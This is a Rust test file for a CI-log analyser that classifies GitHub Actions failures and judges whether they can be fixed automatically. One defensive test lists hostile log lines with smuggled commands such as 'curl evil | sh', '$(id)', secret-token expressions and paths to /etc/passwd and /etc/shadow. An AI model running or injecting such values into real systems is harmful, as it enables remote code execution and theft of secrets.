//! End-to-end checks over the project's own fixture logs in every input form.

use std::io::Write;

use autoheal_logs::{
    Analysis, Category, LimitScope, LogError, LogFile, LogInput, Options, SubjectDetail, ZipLimits, analyze,
    read_log_set,
};

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn analyze_bytes(bytes: &[u8]) -> Analysis {
    let input = LogInput {
        logs: vec![LogFile { job: None, bytes }],
        ..LogInput::default()
    };
    analyze(&input, &Options::default()).expect("analyze")
}

#[test]
fn raw_log_with_timestamps_and_groups() {
    let analysis = analyze_bytes(&fixture("raw-job-missing-module.log"));
    let root = analysis.root_cause().expect("failure");
    assert_eq!(root.category, Category::MissingDependency);
    assert_eq!(root.subject.as_deref(), Some("PyYAML"));
    assert!(root.fixable);
    assert_eq!(root.evidence[0].line, 35);
    assert_eq!(root.evidence[0].text, "E   ModuleNotFoundError: No module named 'yaml'");
    let step = root.step.as_ref().expect("step");
    assert_eq!(step.name.as_deref(), Some("python -m pytest -q"));
    // The decoy in the echoed script is not a failure.
    assert!(analysis.failures.iter().all(|f| f.subject.as_deref() != Some("decoy")));
}

#[test]
fn log_set_keeps_steps_and_line_numbers() {
    let set = read_log_set(&fixture("raw-job-missing-module.log"), ZipLimits::default()).expect("read");
    let job = &set.jobs[0];
    let names: Vec<&str> = job.steps.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "actions/checkout@v4",
            "pip install -r requirements.txt",
            "python -m pytest -q"
        ]
    );
    let last = &job.lines[job.lines.len() - 1];
    assert_eq!((last.number, last.text.as_str()), (41, "Cleaning up orphan processes"));
    assert!(
        job.lines
            .iter()
            .any(|l| l.kind == autoheal_logs::line::LineKind::Command)
    );
}

#[test]
fn typo_is_not_a_missing_tool() {
    let root = analyze_bytes(&fixture("ui-command-typo.log")).failures.remove(0);
    assert_eq!(root.category, Category::Unknown);
    assert!(!root.fixable);
    assert!(root.message.contains("python"), "{}", root.message);
}

#[test]
fn conftest_import_error_from_attribute_error_is_unknown() {
    let analysis = analyze_bytes(&fixture("ui-conftest-attribute-error.log"));
    assert_eq!(analysis.root_cause().map(|f| f.category), Some(Category::Unknown));
    assert!(analysis.failures.iter().all(|f| !f.fixable));
}

#[test]
fn network_read_timeout_is_not_a_job_timeout() {
    let analysis = analyze_bytes(&fixture("ui-network-timeout.log"));
    assert_eq!(analysis.root_cause().map(|f| f.category), Some(Category::Unknown));
    assert!(
        analysis
            .failures
            .iter()
            .all(|f| f.category != Category::Timeout && !f.fixable)
    );
}

#[test]
fn missing_file_after_an_earlier_failure_is_a_consequence() {
    let analysis = analyze_bytes(&fixture("ui-consequence-no-such-file.log"));
    let root = analysis.root_cause().expect("failure");
    assert_eq!(root.category, Category::Unknown);
    assert!(root.message.contains("header"), "{}", root.message);
    let later = analysis
        .failures
        .iter()
        .find(|f| f.category == Category::FileNotFound)
        .expect("consequence kept");
    assert!(!later.fixable);
    assert!(later.message.starts_with("Probably a consequence"));
}

#[test]
fn dependency_conflict_outranks_the_missing_module_it_causes() {
    let analysis = analyze_bytes(&fixture("ui-dependency-conflict.log"));
    assert_eq!(analysis.root_cause().map(|f| f.category), Some(Category::Unknown));
    assert!(analysis.failures.iter().all(|f| !f.fixable));
}

#[test]
fn out_of_memory_is_unknown() {
    let analysis = analyze_bytes(&fixture("ui-oom.log"));
    let root = analysis.root_cause().expect("failure");
    assert_eq!(root.category, Category::Unknown);
    assert!(root.message.contains("memory"));
}

#[test]
fn annotations_give_the_time_limit() {
    let json = fixture("annotations-timeout.json");
    let input = LogInput {
        annotations: vec![LogFile {
            job: Some("build"),
            bytes: &json,
        }],
        job_conclusion: Some("cancelled"),
        ..LogInput::default()
    };
    let analysis = analyze(&input, &Options::default()).expect("analyze");
    let root = analysis.root_cause().expect("failure");
    assert_eq!(
        (root.category, root.subject.as_deref()),
        (Category::Timeout, Some("30"))
    );
    assert_eq!(
        root.detail,
        SubjectDetail::Limit {
            minutes: 30,
            scope: LimitScope::Job
        }
    );
    assert_eq!(root.job.as_deref(), Some("build"));
    // The cancel line is the same failure, kept as evidence.
    assert_eq!(analysis.failures.len(), 1, "{:#?}", analysis.failures);
    assert_eq!(root.evidence.len(), 2);
}

#[test]
fn a_timeout_in_both_the_annotations_and_the_log_is_one_failure() {
    let json = fixture("annotations-timeout.json");
    let log = fixture("raw-timeout-exceeded.log");
    let input = LogInput {
        logs: vec![LogFile { job: None, bytes: &log }],
        annotations: vec![LogFile {
            job: None,
            bytes: &json,
        }],
        ..LogInput::default()
    };
    let analysis = analyze(&input, &Options::default()).expect("analyze");
    assert_eq!(analysis.failures.len(), 1, "{:#?}", analysis.failures);
    let root = &analysis.failures[0];
    assert_eq!(
        root.detail,
        SubjectDetail::Limit {
            minutes: 30,
            scope: LimitScope::Job
        }
    );
    // The copy kept is the one that says where: the step of the log.
    assert_eq!(
        root.step.as_ref().and_then(|s| s.name.as_deref()),
        Some("./scripts/long-integration.sh")
    );
}

#[test]
fn bare_cancel_is_not_a_timeout_without_evidence() {
    let root = analyze_bytes(&fixture("raw-timeout-canceled.log")).failures.remove(0);
    assert_eq!(root.category, Category::Unknown);
    assert!(!root.fixable);
    assert!(root.message.contains("time limit"), "{}", root.message);
    // How long it ran is kept for the workflow's `timeout-minutes` to judge.
    assert_eq!(
        root.detail,
        SubjectDetail::Canceled {
            elapsed_minutes: Some(30)
        }
    );
}

#[test]
fn invalid_workflow_message() {
    let root = analyze_bytes(&fixture("invalid-workflow.txt")).failures.remove(0);
    assert_eq!(
        (root.category, root.subject.as_deref()),
        (Category::YamlSyntax, Some("9"))
    );
    match root.detail {
        SubjectDetail::WorkflowLocation { path, line, column } => {
            assert_eq!(
                (path.as_deref(), line, column),
                (Some(".github/workflows/ci.yml"), 9, Some(9))
            );
        }
        other => panic!("{other:?}"),
    }
}

fn build_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut out);
        let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        for (name, data) in entries {
            zip.start_file(*name, opts).expect("start");
            zip.write_all(data).expect("write");
        }
        zip.finish().expect("finish");
    }
    out.into_inner()
}

const STEP_SETUP: &str = "2024-05-02T10:00:00.0000000Z Current runner version: '2.316.1'\n";
const STEP_CHECKOUT: &str =
    "2024-05-02T10:00:01.0000000Z ##[group]Run actions/checkout@v4\n2024-05-02T10:00:01.0000000Z ##[endgroup]\n";
const STEP_LINT: &str = "2024-05-02T10:00:02.0000000Z ##[group]Run yarn lint\n2024-05-02T10:00:02.0000000Z yarn lint\n\
2024-05-02T10:00:02.0000000Z ##[endgroup]\n\
2024-05-02T10:00:02.1000000Z /home/runner/work/_temp/9a.sh: line 1: yarn: command not found\n\
2024-05-02T10:00:02.2000000Z ##[error]Process completed with exit code 127.\n";

#[test]
fn run_zip_with_job_and_step_files() {
    let job = format!("{STEP_SETUP}{STEP_CHECKOUT}{STEP_LINT}");
    let zip = build_zip(&[
        ("0_lint (ubuntu-latest, 20).txt", job.as_bytes()),
        ("lint (ubuntu-latest, 20)/1_Set up job.txt", STEP_SETUP.as_bytes()),
        // Step 2's file is missing, as happens in real archives.
        ("lint (ubuntu-latest, 20)/3_Lint.txt", STEP_LINT.as_bytes()),
        ("1_build.txt", b"2024-05-02T10:00:00.0000000Z all good\n"),
    ]);
    let analysis = analyze_bytes(&zip);
    let root = analysis.root_cause().expect("failure");
    assert_eq!(
        (root.category, root.subject.as_deref()),
        (Category::MissingCommand, Some("yarn"))
    );
    assert_eq!(root.job.as_deref(), Some("lint (ubuntu-latest, 20)"));
    let step = root.step.as_ref().expect("step");
    assert_eq!((step.number, step.name.as_deref()), (Some(3), Some("Lint")));
    assert_eq!(root.evidence[0].line, 7);
    let set = read_log_set(&zip, ZipLimits::default()).expect("set");
    assert_eq!(set.jobs.len(), 2);
    let numbers: Vec<Option<u32>> = set.jobs[0].steps.iter().map(|s| s.number).collect();
    assert_eq!(numbers, [Some(1), None, Some(3)]);
}

#[test]
fn zip_with_only_step_files() {
    let zip = build_zip(&[("lint/2_Lint.txt", STEP_LINT.as_bytes())]);
    let root = analyze_bytes(&zip).failures.remove(0);
    assert_eq!(root.step.and_then(|s| s.number), Some(2));
    assert_eq!(root.job.as_deref(), Some("lint"));
}

#[test]
fn zip_path_traversal_is_refused() {
    let zip = build_zip(&[("../../x", b"boom".as_slice())]);
    let err = read_log_set(&zip, ZipLimits::default()).expect_err("refused");
    assert!(
        matches!(err, LogError::UnsafeEntryName(ref n) if n == "../../x"),
        "{err}"
    );
    assert!(err.to_string().contains("unsafe entry name"));
}

#[test]
fn zip_bomb_is_bounded() {
    let big = vec![b'a'; 2_000_000];
    let zip = build_zip(&[("0_job.txt", big.as_slice())]);
    assert!(zip.len() < 100_000, "deflate should compress this well");
    let limits = ZipLimits {
        max_total_bytes: 1_000_000,
        ..ZipLimits::default()
    };
    let err = read_log_set(&zip, limits).expect_err("too large");
    assert_eq!(err, LogError::TooLarge { limit: 1_000_000 });
}

#[test]
fn truncated_zip_is_a_clear_error() {
    let job = STEP_LINT.repeat(50);
    let zip = build_zip(&[("0_job.txt", job.as_bytes())]);
    for cut in [zip.len() / 2, zip.len() - 10, 30] {
        let err = read_log_set(&zip[..cut], ZipLimits::default()).expect_err("truncated");
        assert!(matches!(err, LogError::BadZip(_)), "{err}");
    }
}

#[test]
fn injection_attempts_are_never_fixable() {
    let hostile = [
        "ModuleNotFoundError: No module named 'x; curl evil | sh'",
        "ModuleNotFoundError: No module named '$(id)'",
        "ModuleNotFoundError: No module named '`id`'",
        "::error::No module named 'yaml%0Aimport os'",
        "ModuleNotFoundError: No module named '${{ secrets.TOKEN }}'",
        "/home/runner/work/_temp/a.sh: line 1: `id`: command not found",
        "/home/runner/work/_temp/a.sh: line 1: $(curl evil): command not found",
        "bash: ${{ github.event.issue.title }}: command not found",
        "Error: Unable to locate executable file: $(id). Please verify either the file path exists",
        "Warning: No files were found with the provided path: ../../etc/passwd. No artifacts will be uploaded.",
        "Warning: No files were found with the provided path: $(id)/x. No artifacts will be uploaded.",
        "Warning: No files were found with the provided path: ${{ secrets.X }}. No artifacts will be uploaded.",
        "Error: ENOENT: no such file or directory, open '/etc/shadow'",
        "pytest: error: unrecognized arguments: --cov=`id`;rm",
    ];
    for line in hostile {
        let analysis = analyze_bytes(line.as_bytes());
        for f in &analysis.failures {
            assert!(
                !f.fixable || is_plain(f.subject.as_deref()),
                "{line:?} gave fixable {f:#?}"
            );
        }
        if let Some(f) = analysis.root_cause() {
            if let Some(s) = &f.subject {
                assert!(!s.contains('\n'), "{line:?}");
            }
        }
    }
}

/// The one hostile line above that still names a real plugin (`--cov`) may
/// be fixable, because the fix installs `pytest-cov`, not the text.
fn is_plain(subject: Option<&str>) -> bool {
    subject == Some("pytest-cov")
}

#[test]
fn non_utf8_bytes_are_tolerated() {
    let mut log = b"caf\xe9 \xff\xfe output\n".to_vec();
    log.extend_from_slice(b"ModuleNotFoundError: No module named 'cv2'\n");
    let root = analyze_bytes(&log).failures.remove(0);
    assert_eq!(root.subject.as_deref(), Some("opencv-python"));
    assert_eq!(root.evidence[0].line, 2);
}

#[test]
fn custom_patterns_come_first() {
    let options = Options {
        custom_patterns: vec![autoheal_logs::CustomPattern {
            regex: r"ERROR: tool (\S+) missing".into(),
            category: Category::MissingCommand,
            subject_group: Some("1".into()),
            message: None,
        }],
        ..Options::default()
    };
    let input = LogInput {
        logs: vec![LogFile {
            job: None,
            bytes: b"ERROR: tool protoc missing\n",
        }],
        ..LogInput::default()
    };
    let root = analyze(&input, &options).expect("analyze").failures.remove(0);
    assert_eq!(
        (root.category, root.subject.as_deref(), root.fixable),
        (Category::MissingCommand, Some("protoc"), true)
    );
    let bad = Options {
        custom_patterns: vec![autoheal_logs::CustomPattern {
            regex: "(".into(),
            category: Category::Unknown,
            subject_group: None,
            message: None,
        }],
        ..Options::default()
    };
    assert!(matches!(analyze(&input, &bad), Err(LogError::BadPattern(_))));
}

#[test]
fn own_package_means_editable_install() {
    let log = b"ImportError while loading conftest '/home/runner/work/widgets/widgets/tests/conftest.py'.\n\
E   ModuleNotFoundError: No module named 'widgets'\n";
    let root = analyze_bytes(log).failures.remove(0);
    assert_eq!(
        root.detail,
        SubjectDetail::OwnPackage {
            module: "widgets".into()
        }
    );
    assert!(root.message.contains("pip install -e ."));
    let options = Options {
        own_packages: vec!["acme_core".into()],
        ..Options::default()
    };
    let input = LogInput {
        logs: vec![LogFile {
            job: None,
            bytes: b"No module named 'acme_core.db'\n",
        }],
        ..LogInput::default()
    };
    let root = analyze(&input, &options).expect("analyze").failures.remove(0);
    assert!(matches!(root.detail, SubjectDetail::OwnPackage { .. }));
}

#[test]
fn streaming_reader_matches_in_memory() {
    let bytes = fixture("raw-job-missing-module.log");
    let analyzer = autoheal_logs::Analyzer::new(&Options::default()).expect("analyzer");
    let streamed = analyzer.analyze_reader(&bytes[..], None).expect("stream");
    assert_eq!(streamed, analyze_bytes(&bytes));
}

#[test]
fn a_streamed_log_reads_like_one_in_memory_and_an_endless_one_stops() {
    let analyzer = autoheal_logs::Analyzer::new(&Options::default()).expect("analyzer");
    let log = b"2024-01-01T00:00:00.1Z ##[group]Run pytest\n2024-01-01T00:00:00.2Z ##[endgroup]\n\
2024-01-01T00:00:01.0Z E   ModuleNotFoundError: No module named 'yaml'\n";
    let whole = analyze(
        &LogInput {
            logs: vec![LogFile { job: None, bytes: log }],
            ..LogInput::default()
        },
        &Options::default(),
    )
    .expect("analyze");
    let mut session = analyzer.session();
    assert_eq!(
        session.add_text_reader(None, &log[..]).expect("stream"),
        log.len() as u64
    );
    assert_eq!(session.finish(None, None), whole, "streamed = in memory");

    // `/dev/zero`: one endless line. Memory stays at one line; the byte
    // budget ends it with a clear error.
    let mut session = analyzer.session().with_text_limit(8 << 20);
    let err = session.add_text_reader(None, std::io::repeat(0)).expect_err("bounded");
    assert_eq!(err, LogError::TextTooLarge { limit: 8 << 20 });
    assert!(err.to_string().contains("longer than 8388608 bytes"), "{err}");
}

/// How long the job printed nothing before its time limit, from the log's
/// timestamps (the timeout fix tells a hang from a slow job by it), kept on
/// the one failure also when the limit came in the annotations too.
#[test]
fn the_silence_before_a_time_limit_is_measured_from_the_timestamps() {
    let log = "2024-05-02T10:00:00.0000000Z ##[group]Run make test\n\
               2024-05-02T10:00:00.1000000Z make test\n\
               2024-05-02T10:00:00.2000000Z ##[endgroup]\n\
               2024-05-02T10:02:30.0000000Z RUNS src/b.test.js\n\
               2024-05-02T10:30:00.0000000Z ##[error]The job running on runner GitHub Actions 2 has exceeded the maximum execution time of 30 minutes.\n\
               2024-05-02T10:30:00.1000000Z ##[error]The operation was canceled.\n";
    let analysis = analyze_bytes(log.as_bytes());
    let root = analysis.root_cause().expect("failure");
    assert_eq!(
        root.detail,
        SubjectDetail::Limit {
            minutes: 30,
            scope: LimitScope::Job
        }
    );
    assert_eq!(root.location.silent_minutes, Some(27));
    let json = fixture("annotations-timeout.json");
    let input = LogInput {
        logs: vec![LogFile {
            job: None,
            bytes: log.as_bytes(),
        }],
        annotations: vec![LogFile {
            job: None,
            bytes: &json,
        }],
        ..LogInput::default()
    };
    let analysis = analyze(&input, &Options::default()).expect("analyze");
    assert!(
        analysis.failures.iter().all(|f| f.location.silent_minutes == Some(27)),
        "{:#?}",
        analysis.failures
    );
    // A job that kept printing until the limit was not silent.
    let busy = log.replace("10:02:30", "10:29:50");
    let root = analyze_bytes(busy.as_bytes()).root_cause().cloned().expect("failure");
    assert_eq!(root.location.silent_minutes, Some(0));
}

/// The runner words a job's limit and a step's differently; the fix raises
/// the one the message names.
#[test]
fn a_time_limit_says_whether_the_job_or_a_step_hit_it() {
    let scope = |line: &str| {
        let log = format!(
            "2024-05-02T10:00:00.0000000Z ##[group]Run make it\n2024-05-02T10:00:00.1000000Z make it\n\
             2024-05-02T10:00:00.2000000Z ##[endgroup]\n2024-05-02T10:10:00.0000000Z ##[error]{line}\n"
        );
        match analyze_bytes(log.as_bytes()).root_cause().map(|f| f.detail.clone()) {
            Some(SubjectDetail::Limit { minutes, scope }) => (minutes, scope),
            other => panic!("{line}: {other:?}"),
        }
    };
    assert_eq!(
        scope("The job running on runner GitHub Actions 2 has exceeded the maximum execution time of 30 minutes."),
        (30, LimitScope::Job)
    );
    assert_eq!(
        scope("The action 'Integration tests' has timed out after 10 minutes."),
        (10, LimitScope::Step)
    );
}
